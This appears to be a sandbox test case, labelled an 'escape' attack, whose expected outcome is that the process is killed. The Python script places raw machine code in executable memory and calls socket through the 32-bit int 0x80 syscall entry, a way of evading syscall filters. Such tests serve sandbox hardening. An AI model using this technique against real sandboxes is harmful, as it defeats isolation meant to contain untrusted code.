# /// attack
# kind = "escape"
# aim = "call the kernel by the 32-bit door, whose numbers mean other calls"
# outcome = "signal"
# signal = [31, 11]  # 11 where the kernel has no such door
# machine = "x86_64"
# ///
import ctypes
import mmap
import os

code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# mov eax, 359 (socket); mov ebx, 1; mov ecx, 1; xor edx, edx; int 0x80; ret
code.write(bytes.fromhex("b867010000 bb01000000 b901000000 31d2 cd80 c3".replace(" ", "")))
made = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
if made >= 0:
    print("managed", made, flush=True)
else:  # gVisor takes it for a 64-bit call of that number, which is refused as such
    os.kill(os.getpid(), 11)
